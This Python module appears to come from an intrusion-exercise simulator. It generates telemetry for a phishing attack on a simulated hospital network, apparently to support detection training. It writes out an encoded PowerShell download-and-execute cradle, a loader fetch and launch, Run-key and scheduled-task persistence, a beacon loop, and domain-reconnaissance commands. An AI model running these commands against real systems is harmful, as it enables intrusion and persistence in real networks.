"""Steps 1 to 4: a letter is opened, a program settles in, and somebody looks around."""

from __future__ import annotations

import base64

from carecordon.exercise import acts
from carecordon.exercise.hospital import Desk
from carecordon.exercise.intrusion.steps import LETTER, RETURN, SURVEY, TOOL, Gives, Intrusion, there, typed
from carecordon.exercise.stage import Script
from carecordon.exercise.telemetry import processes, traces, upkeep
from carecordon.exercise.telemetry.programs import CMD, OFFICE, POWERSHELL, SYSTEM32, made_of
from carecordon.exercise.telemetry.sensor import Process, Sensor

AUTOMATION = (
    "C:\\Windows\\Microsoft.NET\\assembly\\GAC_MSIL\\System.Management.Automation\\v4.0_3.0.0.0__31bf3856ad364e35"
    "\\System.Management.Automation.dll"
)
COMMANDS = (
    ("whoami.exe", "whoami /all", "T1033"),
    ("net.exe", 'net group "Domain Admins" /domain', "T1069.002"),
    ("net.exe", "net user /domain", "T1087.002"),
    ("nltest.exe", "nltest /domain_trusts /all_trusts", "T1482"),
    ("nltest.exe", "nltest /dclist:wph.example.org", "T1018"),
    ("net.exe", "net view \\\\wph-fs01 /all", "T1135"),
    ("net.exe", "net view /all /domain", "T1018"),
    ("systeminfo.exe", "systeminfo", "T1033"),
)


def entry(plan: Intrusion, desk: Desk) -> Script:
    """The letter, the program, its way back, and the survey."""
    shell = yield from _letter(plan, desk)
    yield 20 + plan.rng.random() * 20
    yield from _tool(plan, shell)
    yield 60 + plan.rng.random() * 60
    yield from _return(plan)
    plan.hospital.stage.begin(_beacon(plan), 5)
    yield 200 + plan.rng.random() * 200
    yield from _survey(plan)


def _letter(plan: Intrusion, desk: Desk) -> Gives:
    """Return the PowerShell that Word has started for the attachment's macro."""
    on, home = plan.first, plan.home
    mail = processes.start(on, desk.desktop, f"{OFFICE}OUTLOOK.EXE", f'"{OFFICE}OUTLOOK.EXE"', directory=home)
    acts.visit(on, mail, "mail.example.org")
    yield 90 + plan.rng.random() * 60
    path = f"{home}AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K7QX2M1P\\Referral 4471.docm"
    traces.create(on.marked(LETTER.mark("T1566.001")), mail, path)
    yield 2.0
    opened, line = on.marked(LETTER.mark("T1566.001", "T1204.002")), f'"{OFFICE}WINWORD.EXE" /n "{path}" /o ""'
    word = processes.start(opened, mail, f"{OFFICE}WINWORD.EXE", line, directory=home)
    _allow_macro(on.marked(LETTER.mark("T1204.002")), word, path)
    yield 6 + plan.rng.random() * 9
    text = f"$w=New-Object Net.WebClient;$w.DownloadString('https://{plan.kit.site}/p/4471')|IEX"
    encoded = base64.b64encode(text.encode("utf-16-le")).decode()
    run, line = (
        on.marked(LETTER.mark("T1204.002", "T1059.001")),
        f"-NoProfile -WindowStyle Hidden -EncodedCommand {encoded}",
    )
    shell = processes.start(run, word, POWERSHELL, f"powershell.exe {line}", directory=home)
    script = on.marked(LETTER.mark("T1059.001"))
    processes.load(script, shell, AUTOMATION)
    yield 1.0
    upkeep.run_script(script, shell, text)
    acts.visit(script, shell, plan.kit.site)
    return shell


def _allow_macro(view: Sensor, word: Process, path: str) -> None:
    """Load what runs macros, and note that the document is trusted."""
    library = "C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL"
    processes.load(view, word, library, signed_by="Microsoft Corporation")
    key = (
        f"HKU\\{word.session.sid}\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\Trusted Documents\\TrustRecords\\"
    )
    traces.set_value(view, word, key + path.replace("\\", "/"), "Binary Data")


def _tool(plan: Intrusion, shell: Process) -> Script:
    view, kit = plan.first.marked(TOOL.mark()), plan.kit
    folder = f"{plan.home}AppData\\Roaming\\{kit.folder}\\"
    path = folder + kit.loader
    upkeep.run_script(
        view,
        shell,
        f"(New-Object Net.WebClient).DownloadFile('https://{kit.site}/d/u', '{path}'); Start-Process '{path}'",
    )
    acts.visit(view, shell, kit.site)
    yield 3.0
    traces.create(view, shell, path)
    yield 1.0
    plan.loader = processes.start(view, shell, path, f'"{path}"', directory=folder, facts=made_of(f"loader:{kit}"))


def _return(plan: Intrusion) -> Script:
    on, kit, loader = plan.first, plan.kit, there(plan.loader)
    session = loader.session
    run = on.marked(RETURN.mark("T1547.001"))
    key = "Software\\Microsoft\\Windows\\CurrentVersion\\Run"
    line = f'reg add "HKCU\\{key}" /v {kit.folder} /t REG_SZ /d "{loader.image}" /f'
    reg = processes.start(run, loader, SYSTEM32 + "reg.exe", line)
    traces.set_value(run, reg, f"HKU\\{session.sid}\\{key}\\{kit.folder}", loader.image)
    processes.end(run, reg)
    yield 15.0
    task = on.marked(RETURN.mark("T1053.005"))
    line = f'schtasks /create /tn "{kit.task}" /sc minute /mo 45 /rl highest /tr "{loader.image}" /f'
    process = processes.start(task, loader, SYSTEM32 + "schtasks.exe", line)
    processes.load(task, process, SYSTEM32 + "taskschd.dll")
    upkeep.register_task(task, session, f"\\{kit.task}", loader.image)
    processes.end(task, process)


def _beacon(plan: Intrusion) -> Script:
    """Ask for work once a minute, give or take a tenth, until the recording ends."""
    view, loader = plan.first.marked(RETURN.mark("T1071.001")), there(plan.loader)
    address = acts.address_of(plan.kit.site)
    while True:
        if plan.rng.random() < 0.2:
            traces.ask(view, loader, plan.kit.site, address)
        traces.connect(view, loader, address, 443, host=plan.kit.site)
        yield 54 + plan.rng.random() * 12


def _survey(plan: Intrusion) -> Script:
    on, rng, loader = plan.first, plan.rng, there(plan.loader)
    for program, line, technique in COMMANDS:
        view = on.marked(SURVEY.mark(technique))
        shell = processes.start(view, loader, CMD, f"{CMD} /c {line}")
        yield from typed(view, shell, program, line, rng)
        processes.end(view, shell)
    view, dc = on.marked(SURVEY.mark("T1018", "T1087.002")), plan.hospital.controller
    line = 'powershell -nop -c "Get-ADComputer -Filter * -Properties OperatingSystem | Export-Csv $env:TEMP\\c.csv"'
    process = processes.start(view, loader, POWERSHELL, line)
    upkeep.run_script(view, process, line.partition('"')[2].rstrip('"'))
    for _ in range(4):
        yield 2.0
        traces.connect(view, process, dc.device.address, 389, host=dc.name)
    traces.create(view, process, f"{plan.home}AppData\\Local\\Temp\\c.csv")
    processes.end(view, process)
